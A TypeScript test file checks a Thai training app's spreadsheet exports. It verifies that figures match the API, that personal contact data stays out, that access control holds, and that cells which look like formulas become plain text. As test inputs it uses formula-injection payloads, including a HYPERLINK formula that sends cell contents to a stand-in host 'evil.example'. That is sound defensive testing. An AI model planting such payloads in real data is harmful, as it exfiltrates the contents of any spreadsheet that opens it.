import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import type TestAgent from 'supertest/lib/agent';
import { closeTest, createSession, openTest, startTestApp, TestApp, testIdOf } from '../support/test-app';

type Session = Awaited<ReturnType<typeof createSession>>;
type Row = (string | number | null)[];
/** A file's sheets by name: the header row, then the rows. */
type Book = Map<string, { header: string[]; rows: Row[] }>;

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")';
const HOSTILE_VENUE = '@SUM(1+1)';

/**
 * The XLSX and CSV exports, downloaded as a manager would and read back: every figure recomputes to what the JSON
 * API (the screen) shows; text that a spreadsheet would run as a formula is neutralized; a bad format is refused.
 */
describe('spreadsheet exports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  function download(agent: TestAgent, url: string) {
    return agent
      .get(url)
      .buffer(true)
      .parse((res, callback) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => callback(null, Buffer.concat(chunks)));
      });
  }

  async function readXlsx(content: Buffer): Promise<{ book: Book; workbook: ExcelJS.Workbook }> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(content as unknown as ArrayBuffer);
    const book: Book = new Map();
    workbook.eachSheet((sheet) => {
      const rows: Row[] = [];
      sheet.eachRow((row) => {
        const values = (row.values as ExcelJS.CellValue[]).slice(1);
        rows.push(Array.from({ length: sheet.columnCount }, (_, i) => (values[i] === undefined ? null : (values[i] as string | number | null))));
      });
      const [header, ...rest] = rows;
      book.set(sheet.name, { header: header.map(String), rows: rest });
    });
    return { book, workbook };
  }

  /** A CSV as the exports write it: UTF-8 with BOM, the first sheet, then each further one after an empty line and its name. */
  function readCsv(content: Buffer, names: string[]): Book {
    expect([...content.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = content.toString('utf8').slice(1);
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: false }).data;
    const book: Book = new Map();
    let section: string[][] = [];
    const sections: string[][][] = [];
    for (const row of parsed) {
      if (row.length === 1 && row[0] === '') {
        sections.push(section);
        section = [];
      } else section.push(row);
    }
    if (section.length) sections.push(section);
    sections.forEach((rows, i) => {
      const body = i === 0 ? rows : rows.slice(1);
      if (i > 0) expect(rows[0]).toEqual([names[i]]);
      const [header, ...rest] = body;
      book.set(names[i], { header, rows: rest.map((r) => r.map((cell) => (cell === '' ? null : /^-?\d+(\.\d+)?$/.test(cell) ? Number(cell) : cell))) });
    });
    return book;
  }

  function column(book: Book, sheet: string, header: string): Row[number][] {
    const s = book.get(sheet);
    if (!s) throw new Error(`no sheet ${sheet}`);
    const i = s.header.indexOf(header);
    if (i < 0) throw new Error(`no column ${header} in ${sheet}: ${s.header.join(' | ')}`);
    return s.rows.map((r) => r[i]);
  }

  function fileNameOf(disposition: string): { ascii: string; utf8: string } {
    const ascii = /filename="([^"]+)"/.exec(disposition)?.[1] ?? '';
    const utf8 = decodeURIComponent(/filename\*=UTF-8''([^;]+)/.exec(disposition)?.[1] ?? '');
    return { ascii, utf8 };
  }

  async function takeTest(phone: TestAgent, session: Session, kind: 'pre_test' | 'post_test', right: number): Promise<number> {
    const attempt = (await phone.post(`/api/join/${session.joinCode}/assessments/${testIdOf(session, kind)}/attempt`).send({}).expect(200)).body;
    const ids: string[] = attempt.questions.map((q: { id: string }) => q.id);
    const rows: { id: string; correct_option_ids: string[] }[] = await t.db.query(`SELECT id, correct_option_ids FROM questions WHERE id = ANY($1)`, [ids]);
    const keys = new Map(rows.map((r) => [r.id, r.correct_option_ids]));
    const answers: Record<string, string[]> = {};
    (attempt.questions as { id: string; options: { id: string }[] }[]).forEach((q, i) => {
      const key = keys.get(q.id) as string[];
      answers[q.id] = i < right ? key : [q.options.filter((o) => !key.includes(o.id))[0].id];
    });
    const result = await phone.post(`/api/join/${session.joinCode}/attempts/${attempt.id}/submit`).set('Idempotency-Key', randomUUID()).send({ answers }).expect(200);
    return result.body.percent as number;
  }

  /** A session of 1.1.1 with four equal single-choice questions on its tests, attended and tested as given. */
  async function seed() {
    const org = await t.createOrganization();
    const organizer = await org.login('organizer');
    const session = await createSession(organizer, '1.1.1', { title: HOSTILE_TITLE, venue: HOSTILE_VENUE });
    const preId = testIdOf(session, 'pre_test');
    const detail = (await organizer.get(`/api/assessments/${preId}`).expect(200)).body;
    const questions = (detail.questions as { id: string; type: string; points: number }[]).filter((q) => q.type === 'single_choice');
    const four = questions.filter((q) => q.points === questions[0].points).slice(0, 4);
    const { title, opensAt, closesAt, timeLimitMinutes, shuffleOptions, attemptsAllowed, resultsVisibility, reviewVisibility } = detail;
    await organizer
      .put(`/api/assessments/${preId}`)
      .send({ title, opensAt, closesAt, timeLimitMinutes, shuffleQuestions: false, shuffleOptions, attemptsAllowed, resultsVisibility, reviewVisibility, selection: { mode: 'fixed', questionIds: four.map((q) => q.id) } })
      .expect(200);
    // Right answers of four (25 % each); null = not taken.
    const people = [
      { name: '=HYPERLINK("http://evil.example","คลิก")', pre: 1, post: 4 }, // 25 → 100
      { name: 'นางสาวสมหญิง ใจดี', pre: 2, post: 3 }, // 50 → 75
      { name: '+นายบวก ลบ', pre: 3, post: 2 }, // 75 → 50
      { name: 'นายไม่สอบ หลัง', pre: 0, post: null }, // 0 → —
    ];
    const phones: TestAgent[] = [];
    for (const person of people) {
      const phone = t.http();
      await phone.post(`/api/join/${session.joinCode}`).send({ fullName: person.name, group: 'staff' }).expect(200);
      phones.push(phone);
    }
    await openTest(organizer, session, 'pre_test');
    for (const [i, p] of people.entries()) if (p.pre !== null) expect(await takeTest(phones[i], session, 'pre_test', p.pre)).toBe(p.pre * 25);
    await closeTest(organizer, session, 'pre_test');
    await openTest(organizer, session, 'post_test');
    for (const [i, p] of people.entries()) if (p.post !== null) expect(await takeTest(phones[i], session, 'post_test', p.post)).toBe(p.post * 25);
    await closeTest(organizer, session, 'post_test');

    // The satisfaction survey: 5 5 4 / 4 3 2 / 5 … on its first three items.
    const surveyId = session.assessments.find((a) => a.kind === 'survey')?.id as string;
    await organizer.post(`/api/assessments/${surveyId}/open`).expect(204);
    const levels = [
      [5, 5, 4],
      [4, 3, 2],
      [5, null, 1],
    ];
    for (const [i, row] of levels.entries()) {
      const attempt = (await phones[i].post(`/api/join/${session.joinCode}/assessments/${surveyId}/attempt`).send({ attemptNumber: 1 }).expect(200)).body;
      for (const [j, level] of row.entries()) {
        if (level === null) continue;
        await phones[i].put(`/api/join/${session.joinCode}/attempts/${attempt.id}/answers/${attempt.questions[j].id}`).send({ optionIds: [String(level)] }).expect(204);
      }
      await phones[i].post(`/api/join/${session.joinCode}/attempts/${attempt.id}/submit`).set('Idempotency-Key', randomUUID()).send({ answers: {} }).expect(200);
    }
    const manager = await org.login('manager');
    return { org, organizer, manager, session, surveyId, phone: phones[0] };
  }

  it('exports the indicators, attendees, sessions, item analysis and survey results so that, read back, they recompute to the screen', async () => {
    const { manager, session, surveyId, phone } = await seed();
    const year = session.fiscalYear;

    // (3) The indicators: every figure of the card, XLSX and CSV, equal to the JSON.
    const screen = (await manager.get(`/api/indicators?fiscalYear=${year}`).expect(200)).body;
    const law = screen.programs.find((p: { programCode: string }) => p.programCode === '1.1.1');
    // Hand-worked: 4 attended; post 100, 75, 50 against a pass mark of 60 → 2 passed, 1 missing post-test; 2 / 4 = 50 %.
    // Paired (three people): pre (25 + 50 + 75) / 3 = 50, post (100 + 75 + 50) / 3 = 75, mean gain (75 + 25 − 25) / 3 = 25.
    expect(law).toMatchObject({ attended: 4, passed: 2, missingPostTest: 1, passRatePercent: 50, pairedCount: 3, pairedMeanPrePercent: 50, pairedMeanPostPercent: 75, meanGainPoints: 25 });
    const xlsx = await download(manager, `/api/exports/indicators?fiscalYear=${year}&format=xlsx`).expect(200);
    expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(fileNameOf(xlsx.headers['content-disposition'])).toEqual({ ascii: `indicators-${year}.xlsx`, utf8: `ตัวชี้วัด-${year}.xlsx` });
    const csv = await download(manager, `/api/exports/indicators?fiscalYear=${year}&format=csv`).expect(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(fileNameOf(csv.headers['content-disposition']).utf8).toBe(`ตัวชี้วัด-${year}.csv`);
    for (const book of [(await readXlsx(xlsx.body)).book, readCsv(csv.body, ['ตัวชี้วัด', 'นิยาม'])]) {
      const codes = column(book, 'ตัวชี้วัด', 'รหัสโครงการ');
      expect(codes).toEqual(screen.programs.map((p: { programCode: string }) => p.programCode));
      const row = codes.indexOf('1.1.1');
      const cell = (header: string) => column(book, 'ตัวชี้วัด', header)[row];
      expect(cell('ผู้เข้าอบรม (คน ไม่นับซ้ำ)')).toBe(law.attended);
      expect(cell('ผู้ผ่านเกณฑ์ (คน)')).toBe(law.passed);
      expect(cell('ไม่ได้ทำแบบทดสอบหลังอบรม (คน)')).toBe(law.missingPostTest);
      expect(cell('อัตราผู้ผ่านเกณฑ์ (ร้อยละ)')).toBe(law.passRatePercent);
      // Recomputed from the file's own cells: passed / attended × 100.
      expect(((cell('ผู้ผ่านเกณฑ์ (คน)') as number) / (cell('ผู้เข้าอบรม (คน ไม่นับซ้ำ)') as number)) * 100).toBe(law.passRatePercent);
      expect(cell('ผู้ทำทั้งก่อนและหลังอบรม (คน)')).toBe(law.pairedCount);
      expect(cell('เฉลี่ยก่อนอบรม จับคู่ (ร้อยละ)')).toBe(law.pairedMeanPrePercent);
      expect(cell('เฉลี่ยหลังอบรม จับคู่ (ร้อยละ)')).toBe(law.pairedMeanPostPercent);
      expect(cell('คะแนนเพิ่มขึ้นเฉลี่ย (จุดร้อยละ)')).toBe(law.meanGainPoints);
      expect((cell('เฉลี่ยหลังอบรม จับคู่ (ร้อยละ)') as number) - (cell('เฉลี่ยก่อนอบรม จับคู่ (ร้อยละ)') as number)).toBe(law.meanGainPoints);
      expect(cell('ความก้าวหน้าของกลุ่ม (Hake’s g)')).toBe(law.hakeGain);
      expect(cell('ความก้าวหน้าเฉลี่ยรายคน (g เฉลี่ย)')).toBe(law.meanNormalizedGain);
      expect(cell('ผลเทียบเป้าหมาย')).toBe('ไม่ผ่านเกณฑ์');
      // A program-year nobody attended: no data yet, and empty figures rather than zeros.
      const other = codes.indexOf('1.2.1');
      expect(column(book, 'ตัวชี้วัด', 'ผลเทียบเป้าหมาย')[other]).toBe('ยังไม่มีข้อมูล');
      expect(column(book, 'ตัวชี้วัด', 'อัตราผู้ผ่านเกณฑ์ (ร้อยละ)')[other]).toBeNull();
      // Each column has its written definition.
      expect(column(book, 'นิยาม', 'รายการ')).toEqual(book.get('ตัวชี้วัด')?.header);
      expect(column(book, 'นิยาม', 'ความหมาย').every((d) => typeof d === 'string' && d.length > 5)).toBe(true);
    }

    // (2) The attendees with their scores and gain: names only, formulas neutralized, the figures recomputed from the rows.
    const attendeesUrl = `/api/exports/attendees?programId=${session.programId}&fiscalYear=${year}`;
    const attendeesXlsx = await download(manager, `${attendeesUrl}&format=xlsx`).expect(200);
    expect(fileNameOf(attendeesXlsx.headers['content-disposition'])).toEqual({ ascii: `attendees-1.1.1-${year}.xlsx`, utf8: `ผู้เข้าอบรม-1.1.1-${year}.xlsx` });
    const attendeesCsv = await download(manager, `${attendeesUrl}&format=csv`).expect(200);
    for (const book of [(await readXlsx(attendeesXlsx.body)).book, readCsv(attendeesCsv.body, ['ผู้เข้าอบรม', 'สรุป', 'นิยาม'])]) {
      const sheet = book.get('ผู้เข้าอบรม');
      // Never a contact, guardian or age column.
      expect(sheet?.header).toEqual([
        'ลำดับ',
        'ชื่อ–สกุล',
        'รอบที่เข้าอบรม',
        'คะแนนก่อนอบรม (ร้อยละ)',
        'คะแนนหลังอบรม (ร้อยละ)',
        'คะแนนเพิ่มขึ้น (จุดร้อยละ)',
        'ความก้าวหน้า (g)',
        'ผลการประเมิน',
        'ไม่ได้ทำแบบทดสอบหลังอบรม',
      ]);
      const names = column(book, 'ผู้เข้าอบรม', 'ชื่อ–สกุล');
      expect([...names].sort()).toEqual([`'+นายบวก ลบ`, `'=HYPERLINK("http://evil.example","คลิก")`, 'นางสาวสมหญิง ใจดี', 'นายไม่สอบ หลัง'].sort());
      const pre = column(book, 'ผู้เข้าอบรม', 'คะแนนก่อนอบรม (ร้อยละ)') as (number | null)[];
      const post = column(book, 'ผู้เข้าอบรม', 'คะแนนหลังอบรม (ร้อยละ)') as (number | null)[];
      const gain = column(book, 'ผู้เข้าอบรม', 'คะแนนเพิ่มขึ้น (จุดร้อยละ)') as (number | null)[];
      const byName = (name: string) => names.indexOf(name);
      // 25 → 100: gain 75, g = 75 / 75 = 1; 75 → 50: gain −25, g = −25 / 25 = −1.
      expect([pre[byName(`'=HYPERLINK("http://evil.example","คลิก")`)], post[byName(`'=HYPERLINK("http://evil.example","คลิก")`)], gain[byName(`'=HYPERLINK("http://evil.example","คลิก")`)]]).toEqual([25, 100, 75]);
      expect(column(book, 'ผู้เข้าอบรม', 'ความก้าวหน้า (g)')[byName(`'+นายบวก ลบ`)]).toBe(-1);
      expect(column(book, 'ผู้เข้าอบรม', 'ไม่ได้ทำแบบทดสอบหลังอบรม')[byName('นายไม่สอบ หลัง')]).toBe('ใช่');
      const passed = column(book, 'ผู้เข้าอบรม', 'ผลการประเมิน').filter((r) => r === 'ผ่าน').length;
      expect((passed / names.length) * 100).toBe(law.passRatePercent);
      const paired = pre.flatMap((p, i) => (p !== null && post[i] !== null ? [i] : []));
      const mean = (values: number[]) => Math.round((values.reduce((a, b) => a + b, 0) / values.length) * 100) / 100;
      expect(paired.length).toBe(law.pairedCount);
      expect(mean(paired.map((i) => pre[i] as number))).toBe(law.pairedMeanPrePercent);
      expect(mean(paired.map((i) => post[i] as number))).toBe(law.pairedMeanPostPercent);
      expect(mean(paired.map((i) => gain[i] as number))).toBe(law.meanGainPoints);
      const summary = (label: string) => column(book, 'สรุป', 'ค่า')[column(book, 'สรุป', 'รายการ').indexOf(label)];
      expect(summary('อัตราผู้ผ่านเกณฑ์ (ร้อยละ)')).toBe(law.passRatePercent);
      expect(summary('คะแนนเพิ่มขึ้นเฉลี่ย (จุดร้อยละ)')).toBe(law.meanGainPoints);
    }
    // The raw file carries no phone, email or guardian detail of anyone.
    expect(attendeesCsv.body.toString('utf8')).not.toMatch(/ผู้ปกครอง|โทรศัพท์|อีเมล|guardian|phone|email/i);

    // (1) The sessions of the year, with Buddhist Era dates in Bangkok time; the hostile title and venue stay text.
    const sessionsScreen = (await manager.get(`/api/sessions?fiscalYear=${year}`).expect(200)).body.sessions;
    const sessionsXlsx = await download(manager, `/api/exports/sessions?fiscalYear=${year}&format=xlsx`).expect(200);
    expect(fileNameOf(sessionsXlsx.headers['content-disposition'])).toEqual({ ascii: `sessions-${year}.xlsx`, utf8: `รอบอบรม-${year}.xlsx` });
    const { book: sessionsBook, workbook } = await readXlsx(sessionsXlsx.body);
    const sessionsCsv = readCsv((await download(manager, `/api/exports/sessions?fiscalYear=${year}&format=csv`).expect(200)).body, ['รอบอบรม', 'นิยาม']);
    const starts = new Date(sessionsScreen[0].startsAt);
    const bangkok = new Date(starts.getTime() + 7 * 3600 * 1000);
    const two = (n: number) => String(n).padStart(2, '0');
    const expectedStart = `${two(bangkok.getUTCDate())}/${two(bangkok.getUTCMonth() + 1)}/${bangkok.getUTCFullYear() + 543} 09:00`;
    for (const book of [sessionsBook, sessionsCsv]) {
      expect(column(book, 'รอบอบรม', 'รอบอบรม')).toEqual([`'${HOSTILE_TITLE}`]);
      expect(column(book, 'รอบอบรม', 'สถานที่')).toEqual([`'${HOSTILE_VENUE}`]);
      expect(column(book, 'รอบอบรม', 'เริ่ม (พ.ศ. เวลาไทย)')).toEqual([expectedStart]);
      expect(column(book, 'รอบอบรม', 'ผู้เข้าอบรม (เช็กอิน)')).toEqual([sessionsScreen[0].attendedCount]);
      // Opening a test opened the session.
      expect(column(book, 'รอบอบรม', 'สถานะ')).toEqual(['กำลังอบรม']);
    }
    // In the workbook the title is a plain string cell, never a formula; numbers are numbers.
    const titleCell = workbook.getWorksheet('รอบอบรม')?.getCell('D2');
    expect(titleCell?.type).toBe(ExcelJS.ValueType.String);
    expect(workbook.getWorksheet('รอบอบรม')?.getCell('J2').type).toBe(ExcelJS.ValueType.Number);

    // (4) The pre-test's item analysis: p, D and the point-biserial as on the page; p recomputed as right / respondents.
    const preId = testIdOf(session, 'pre_test');
    const analysis = (await manager.get(`/api/assessments/${preId}/item-analysis`).expect(200)).body;
    const itemsXlsx = await download(manager, `/api/exports/assessments/${preId}/item-analysis?format=xlsx`).expect(200);
    const itemsCsv = await download(manager, `/api/exports/assessments/${preId}/item-analysis?format=csv`).expect(200);
    for (const book of [(await readXlsx(itemsXlsx.body)).book, readCsv(itemsCsv.body, ['รายข้อ', 'สรุป', 'นิยาม'])]) {
      expect(column(book, 'รายข้อ', 'ความยาก (p)')).toEqual(analysis.items.map((i: { difficulty: number }) => i.difficulty));
      expect(column(book, 'รายข้อ', 'อำนาจจำแนก (D, 27%)')).toEqual(analysis.items.map((i: { discrimination: number | null }) => i.discrimination));
      expect(column(book, 'รายข้อ', 'สหสัมพันธ์พอยท์ไบซีเรียล')).toEqual(analysis.items.map((i: { pointBiserial: number | null }) => i.pointBiserial));
      const respondents = column(book, 'สรุป', 'ค่า')[column(book, 'สรุป', 'รายการ').indexOf('จำนวนผู้ตอบ')] as number;
      expect(respondents).toBe(4);
      expect(column(book, 'รายข้อ', 'จำนวนผู้ตอบถูก').map((right) => Math.round(((right as number) / respondents) * 10000) / 10000)).toEqual(
        analysis.items.map((i: { difficulty: number }) => i.difficulty),
      );
      expect(column(book, 'สรุป', 'ค่า')[column(book, 'สรุป', 'รายการ').indexOf('KR-20')]).toBe(analysis.kr20);
    }

    // (5) The session survey and the program-year's: means recomputed from the counts equal the screen's.
    const survey = (await manager.get(`/api/assessments/${surveyId}/survey-results`).expect(200)).body;
    // Item 1: 5, 4, 5 → 4.67; item 2: 5, 3 → 4; item 3: 4, 2, 1 → 2.33.
    expect(survey.items.slice(0, 3).map((i: { mean: number }) => i.mean)).toEqual([4.67, 4, 2.33]);
    const yearSurvey = (await manager.get(`/api/programs/${session.programId}/survey-results?fiscalYear=${year}`).expect(200)).body;
    const surveyFiles = [
      [`/api/exports/assessments/${surveyId}/survey-results`, survey, ['ผลรายข้อ', 'ผลลัพธ์ที่ติดตาม', 'สรุป', 'นิยาม']],
      [`/api/exports/survey-results?programId=${session.programId}&fiscalYear=${year}`, yearSurvey, ['ผลรายข้อ', 'ผลลัพธ์ที่ติดตาม', 'แบบสำรวจที่รวม', 'นิยาม']],
    ] as const;
    for (const [url, json, sheets] of surveyFiles) {
      const x = (await readXlsx((await download(manager, `${url}${url.includes('?') ? '&' : '?'}format=xlsx`).expect(200)).body)).book;
      const c = readCsv((await download(manager, `${url}${url.includes('?') ? '&' : '?'}format=csv`).expect(200)).body, [...sheets]);
      for (const book of [x, c]) {
        expect([...book.keys()]).toEqual(sheets);
        expect(column(book, 'ผลรายข้อ', 'ค่าเฉลี่ย')).toEqual(json.items.map((i: { mean: number | null }) => i.mean));
        expect(column(book, 'ผลรายข้อ', 'ร้อยละตอบ 4–5')).toEqual(json.items.map((i: { agreePercent: number | null }) => i.agreePercent));
        const levels = ['มากที่สุด (5)', 'มาก (4)', 'ปานกลาง (3)', 'น้อย (2)', 'น้อยที่สุด (1)'].map((h) => column(book, 'ผลรายข้อ', h) as number[]);
        const answered = column(book, 'ผลรายข้อ', 'จำนวนผู้ตอบข้อนี้') as number[];
        const recomputed = answered.map((n, i) => (n === 0 ? null : Math.round(((5 * levels[0][i] + 4 * levels[1][i] + 3 * levels[2][i] + 2 * levels[3][i] + levels[4][i]) / n) * 100) / 100));
        expect(recomputed).toEqual(json.items.map((i: { mean: number | null }) => i.mean));
      }
    }

    // A trainee's phone and nobody signed in are refused; another organization finds nothing.
    await phone.get(`/api/exports/indicators?format=xlsx`).expect(401);
    await t.http().get(`/api/exports/sessions?format=csv`).expect(401);
    const other = await (await t.createOrganization()).login('manager');
    await other.get(`/api/exports/assessments/${preId}/item-analysis?format=xlsx`).expect(404);
    await other.get(`${attendeesUrl}&format=csv`).expect(404);
    const othersSessions = readCsv((await download(other, `/api/exports/sessions?fiscalYear=${year}&format=csv`).expect(200)).body, ['รอบอบรม', 'นิยาม']);
    expect(othersSessions.get('รอบอบรม')?.rows).toEqual([]);
  });

  it('refuses a format other than xlsx or csv, in Thai with a code', async () => {
    const org = await t.createOrganization();
    const manager = await org.login('manager');
    for (const url of ['/api/exports/indicators?format=pdf', '/api/exports/sessions', '/api/exports/indicators?format=XLSX&fiscalYear=2568']) {
      const refused = await manager.get(url).expect(400);
      expect(refused.body).toMatchObject({ code: 'VALIDATION_FAILED', message: expect.stringMatching(/[ก-๙]/) });
      expect(JSON.stringify(refused.body)).toContain('รูปแบบไฟล์ต้องเป็น xlsx หรือ csv');
    }
  });
});
